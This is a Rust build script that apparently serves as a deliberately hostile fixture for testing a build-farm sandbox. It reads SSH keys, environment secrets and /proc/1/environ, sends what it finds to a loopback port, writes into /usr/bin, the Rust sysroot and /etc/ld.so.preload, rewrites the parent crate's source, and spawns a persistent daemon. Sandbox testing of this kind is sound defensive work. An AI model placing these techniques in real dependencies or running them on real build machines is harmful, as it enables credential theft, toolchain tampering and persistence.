//! HOSTILE BUILD SCRIPT — a test fixture for the farm sandbox.
//!
//! Cargo compiles and runs this file on the build machine, with the builder's
//! privileges, before the `evil` library is compiled. That is what makes
//! build scripts a supply-chain risk, and each function below is one attack a
//! compromised dependency could plausibly try.
//!
//! Rules this script follows so it is safe to use as a fixture:
//! * it never panics and always exits 0, so a sandbox is judged on whether the
//!   attacks *worked*, not on whether the build happened to fail;
//! * every attempt is reported on stdout as
//!   `cargo:warning=evil: <attack>: ok[ (detail)]` or
//!   `cargo:warning=evil: <attack>: denied: <error>` (or `skipped: <why>`);
//! * the only network target is 127.0.0.1;
//! * warnings never echo secret values, and nothing it finds reaches the
//!   library (and so the final binary).
//!
//! Only ever build this inside a disposable, network-less gVisor container.

use std::env;
use std::fs::{self, OpenOptions};
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream, UdpSocket};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

/// Port used when `FARM_DEMO_EXFIL_PORT` is not set.
const DEFAULT_EXFIL_PORT: u16 = 47001;

type Outcome = Result<String, String>;

fn main() {
    // Re-run when the knobs the tests turn change; otherwise cargo would
    // cache the (possibly "denied") results of an earlier run.
    println!("cargo:rerun-if-changed=build.rs");
    for var in ["FARM_DEMO_EXFIL_PORT", "FARM_DEMO_SECRET", "FARM_DEMO_MARKER_DIR"] {
        println!("cargo:rerun-if-env-changed={var}");
    }

    // Belt and braces: even a bug in an attack must not fail the build.
    let result = std::panic::catch_unwind(run_all_attacks);
    if result.is_err() {
        report("internal", Err("attack code panicked".into()));
    }
}

fn run_all_attacks() {
    // (c) first: the loot is what (a) tries to send out.
    let loot = steal_secrets();

    // (a) exfiltrate over loopback.
    let port = exfil_port();
    let mut payload = b"EXFIL:".to_vec();
    payload.extend_from_slice(&loot);
    report("exfil-tcp", exfil_tcp(port, &payload));
    report("exfil-udp", exfil_udp(port, &payload));

    // (b) tamper with the toolchain / system.
    tamper_with_toolchain();

    // (d) rewrite the crate that depends on us.
    rewrite_parent_crate();

    // (e) outlive the build.
    report("daemon-spawn", spawn_daemon());

    // Test hook: a host directory that must never be reachable.
    match env::var_os("FARM_DEMO_MARKER_DIR") {
        Some(dir) => report(
            "host-marker",
            create_file(&Path::new(&dir).join("pwned-by-evil"), b"pwned by evil build.rs\n"),
        ),
        None => println!("cargo:warning=evil: host-marker: skipped: FARM_DEMO_MARKER_DIR not set"),
    }
}

// ---------------------------------------------------------------------------
// Reporting helpers
// ---------------------------------------------------------------------------

/// Print one `cargo:warning` line. Warnings from path dependencies are shown
/// by cargo even without `-v`, so build logs always record every attempt.
fn report(attack: &str, outcome: Outcome) {
    // A cargo directive must be a single line.
    let one_line = |s: String| s.replace(['\n', '\r'], " ");
    match outcome {
        Ok(detail) if detail.is_empty() => println!("cargo:warning=evil: {attack}: ok"),
        Ok(detail) => println!("cargo:warning=evil: {attack}: ok ({})", one_line(detail)),
        Err(err) => println!("cargo:warning=evil: {attack}: denied: {}", one_line(err)),
    }
}

fn io_err(e: std::io::Error) -> String {
    // Display already includes "(os error N)", which is what we want to see.
    e.to_string()
}

// ---------------------------------------------------------------------------
// (c) Secrets
// ---------------------------------------------------------------------------

/// Try to read host secrets. Returns the bytes an attacker would exfiltrate.
fn steal_secrets() -> Vec<u8> {
    let mut loot = Vec::new();

    // A secret the operator might have in their shell (CI tokens and the like).
    match env::var("FARM_DEMO_SECRET") {
        Ok(v) => {
            report("read-env FARM_DEMO_SECRET", Ok(format!("{} bytes", v.len())));
            loot.extend_from_slice(format!("FARM_DEMO_SECRET={v}\n").as_bytes());
        }
        Err(e) => report("read-env FARM_DEMO_SECRET", Err(e.to_string())),
    }

    // The builder's SSH key: $HOME first, then root's in case HOME was reset.
    let mut key_paths = Vec::new();
    if let Some(home) = env::var_os("HOME") {
        key_paths.push(PathBuf::from(home).join(".ssh/id_rsa"));
    }
    let root_key = PathBuf::from("/root/.ssh/id_rsa");
    if !key_paths.contains(&root_key) {
        key_paths.push(root_key);
    }
    for path in key_paths {
        match read_file(&path) {
            Ok(bytes) => {
                report(
                    &format!("read-file {}", path.display()),
                    Ok(format!("{} bytes", bytes.len())),
                );
                loot.extend_from_slice(format!("{}:\n", path.display()).as_bytes());
                loot.extend_from_slice(&bytes);
                loot.push(b'\n');
            }
            Err(e) => report(&format!("read-file {}", path.display()), Err(e)),
        }
    }

    // PID 1's environment: on a bare host that is init (root-only), but a
    // sloppy sandbox may share a PID namespace with something more
    // interesting. Look specifically for the demo secret in there too.
    match read_file(Path::new("/proc/1/environ")) {
        Ok(bytes) => {
            let found = bytes
                .split(|&b| b == 0)
                .find(|kv| kv.starts_with(b"FARM_DEMO_SECRET="));
            let detail = format!(
                "{} bytes, FARM_DEMO_SECRET {}",
                bytes.len(),
                if found.is_some() { "present" } else { "absent" }
            );
            report("read-file /proc/1/environ", Ok(detail));
            if let Some(kv) = found {
                loot.extend_from_slice(b"pid1:");
                loot.extend_from_slice(kv);
                loot.push(b'\n');
            }
        }
        Err(e) => report("read-file /proc/1/environ", Err(e)),
    }

    loot
}

fn read_file(path: &Path) -> Result<Vec<u8>, String> {
    let mut buf = Vec::new();
    fs::File::open(path)
        .and_then(|mut f| f.read_to_end(&mut buf))
        .map_err(io_err)?;
    Ok(buf)
}

// ---------------------------------------------------------------------------
// (a) Exfiltration
// ---------------------------------------------------------------------------

fn exfil_port() -> u16 {
    // Read at build-script *run* time (not env! at compile time) so the tests
    // can point it at their listener without recompiling the script.
    env::var("FARM_DEMO_EXFIL_PORT")
        .ok()
        .and_then(|p| p.trim().parse().ok())
        .unwrap_or(DEFAULT_EXFIL_PORT)
}

fn exfil_tcp(port: u16, payload: &[u8]) -> Outcome {
    let addr = SocketAddr::from(([127, 0, 0, 1], port));
    // Bounded timeouts: a black-holing sandbox must not hang the build.
    let mut stream = TcpStream::connect_timeout(&addr, Duration::from_secs(3)).map_err(io_err)?;
    stream
        .set_write_timeout(Some(Duration::from_secs(3)))
        .map_err(io_err)?;
    stream.write_all(payload).map_err(io_err)?;
    stream.flush().map_err(io_err)?;
    Ok(format!("sent {} bytes to {addr}", payload.len()))
}

fn exfil_udp(port: u16, payload: &[u8]) -> Outcome {
    let addr = SocketAddr::from(([127, 0, 0, 1], port));
    let sock = UdpSocket::bind(SocketAddr::from(([127, 0, 0, 1], 0))).map_err(io_err)?;
    // A *connected* UDP socket gets ICMP port-unreachable errors reported back
    // as ECONNREFUSED on the next recv, which tells us whether anyone was
    // listening. An unconnected sendto would "succeed" regardless.
    sock.connect(addr).map_err(io_err)?;
    let sent = sock.send(payload).map_err(io_err)?;
    sock.set_read_timeout(Some(Duration::from_millis(500)))
        .map_err(io_err)?;
    let mut buf = [0u8; 64];
    match sock.recv(&mut buf) {
        Ok(_) => Ok(format!("sent {sent} bytes to {addr}, got a reply")),
        Err(e) if e.kind() == std::io::ErrorKind::ConnectionRefused => Err(io_err(e)),
        // Timeout: the datagram left without an error; we can't tell whether
        // it was received, so count it as a success (pessimistic for the
        // sandbox, which is the right bias for a test).
        Err(_) => Ok(format!("sent {sent} bytes to {addr}, no ICMP error")),
    }
}

// ---------------------------------------------------------------------------
// (b) Toolchain / system tampering
// ---------------------------------------------------------------------------

fn tamper_with_toolchain() {
    // A new executable on PATH that a later build step might pick up.
    report(
        "write /usr/bin/farm-pwned",
        create_file(Path::new("/usr/bin/farm-pwned"), b"#!/bin/sh\necho farm-pwned\n"),
    );

    // A file inside the Rust sysroot, where std's rlibs live.
    let sysroot = rust_sysroot();
    let rustlib_marker = sysroot.join("lib/rustlib/farm-pwned-marker");
    report(
        &format!("write {}", rustlib_marker.display()),
        create_file(&rustlib_marker, b"farm-pwned\n"),
    );

    // Open the compiler binary itself for appending. We write zero bytes:
    // being *allowed* to open it for writing is already the compromise (a
    // real attacker would patch it), and writing nothing keeps the fixture
    // from corrupting a toolchain if it is ever run somewhere unsafe.
    match which_rustc() {
        Some(rustc) => report(
            &format!("open-for-append {}", rustc.display()),
            OpenOptions::new()
                .append(true)
                .open(&rustc)
                .map(|_| "opened for writing, 0 bytes written".to_string())
                .map_err(io_err),
        ),
        None => report("open-for-append rustc", Err("rustc not found on PATH".into())),
    }

    // Preloading a library into every future process. Again zero bytes: an
    // (even empty) file appearing proves the write, while a bogus entry would
    // make the dynamic loader print errors for every later process.
    report(
        "write /etc/ld.so.preload",
        OpenOptions::new()
            .create(true)
            .append(true)
            .open("/etc/ld.so.preload")
            .map(|_| "created/opened for append, 0 bytes written".to_string())
            .map_err(io_err),
    );
}

/// `$RUSTC --print sysroot`, falling back to `/usr` (Debian's layout).
fn rust_sysroot() -> PathBuf {
    let rustc = env::var_os("RUSTC").unwrap_or_else(|| "rustc".into());
    Command::new(rustc)
        .args(["--print", "sysroot"])
        .stderr(Stdio::null())
        .output()
        .ok()
        .filter(|o| o.status.success())
        .and_then(|o| String::from_utf8(o.stdout).ok())
        .map(|s| PathBuf::from(s.trim()))
        .filter(|p| p.is_absolute())
        .unwrap_or_else(|| PathBuf::from("/usr"))
}

/// Resolve `$RUSTC` (cargo passes just "rustc" when it came from PATH).
fn which_rustc() -> Option<PathBuf> {
    let rustc = PathBuf::from(env::var_os("RUSTC").unwrap_or_else(|| "rustc".into()));
    if rustc.components().count() > 1 {
        return Some(rustc);
    }
    env::split_paths(&env::var_os("PATH")?)
        .map(|dir| dir.join(&rustc))
        .find(|p| p.is_file())
}

/// Create (or truncate) `path` and write `contents`.
fn create_file(path: &Path, contents: &[u8]) -> Outcome {
    let mut f = OpenOptions::new()
        .write(true)
        .create(true)
        .truncate(true)
        .open(path)
        .map_err(io_err)?;
    f.write_all(contents).map_err(io_err)?;
    Ok(String::new())
}

// ---------------------------------------------------------------------------
// (d) Rewriting the dependent crate
// ---------------------------------------------------------------------------

fn rewrite_parent_crate() {
    // CARGO_MANIFEST_DIR is evil/; its parent is the top-level crate, which
    // is the crate the victim actually reviewed and thinks they are building.
    let parent = match env::var_os("CARGO_MANIFEST_DIR") {
        Some(dir) => match Path::new(&dir).parent() {
            Some(p) => p.to_path_buf(),
            None => {
                report("rewrite-parent", Err("CARGO_MANIFEST_DIR has no parent".into()));
                return;
            }
        },
        None => {
            report("rewrite-parent", Err("CARGO_MANIFEST_DIR not set".into()));
            return;
        }
    };

    // Appending a comment is harmless to compile but shows up in any
    // before/after source hash.
    let main_rs = parent.join("src/main.rs");
    report(
        "append ../src/main.rs",
        OpenOptions::new()
            .append(true)
            .open(&main_rs)
            .and_then(|mut f| f.write_all(b"// pwned\n"))
            .map(|_| String::new())
            .map_err(io_err),
    );

    report(
        "create ../src/pwned.rs",
        create_file(&parent.join("src/pwned.rs"), b"// pwned by evil build.rs\n"),
    );
}

// ---------------------------------------------------------------------------
// (e) Persistence
// ---------------------------------------------------------------------------

/// Start a detached process that outlives this build script (and, if the
/// sandbox doesn't kill the whole process tree, the build itself).
fn spawn_daemon() -> Outcome {
    // ../../daemon-marker relative to OUT_DIR is target/<profile>/build/,
    // i.e. inside the build's output tree that a farm may export.
    let out_marker = env::var_os("OUT_DIR")
        .map(|d| PathBuf::from(d).join("../../daemon-marker"))
        .unwrap_or_else(|| PathBuf::from("/tmp/farm-daemon-marker"));

    // The daemon: wait a moment (so it runs after this script has exited),
    // leave markers, then linger.
    let daemon = r#"sleep 1
echo "alive pid $$" > /tmp/farm-daemon-alive
echo "alive pid $$" > "$EVIL_DAEMON_MARKER"
exec sleep 600"#;

    // Double fork through sh: the background job is re-parented to PID 1 once
    // the outer sh exits, `setsid` gives it a new session (no controlling
    // terminal, not in cargo's process group) and `nohup` ignores SIGHUP.
    // All std streams go to /dev/null: cargo waits for EOF on the build
    // script's stdout, so an inherited pipe would stall the build for 600s.
    let launcher = r#"if command -v setsid >/dev/null 2>&1; then S=setsid; else S=; fi
nohup $S sh -c "$0" </dev/null >/dev/null 2>&1 &
echo $!"#;

    let out = Command::new("sh")
        .arg("-c")
        .arg(launcher)
        .arg(daemon)
        .env("EVIL_DAEMON_MARKER", &out_marker)
        .stdin(Stdio::null())
        .stderr(Stdio::null())
        .output()
        .map_err(io_err)?;
    if !out.status.success() {
        return Err(format!("launcher exited with {}", out.status));
    }
    let pid = String::from_utf8_lossy(&out.stdout).trim().to_string();
    if pid.is_empty() {
        return Err("launcher printed no pid".into());
    }
    Ok(format!("pid {pid}, markers /tmp/farm-daemon-alive and {}", out_marker.display()))
}
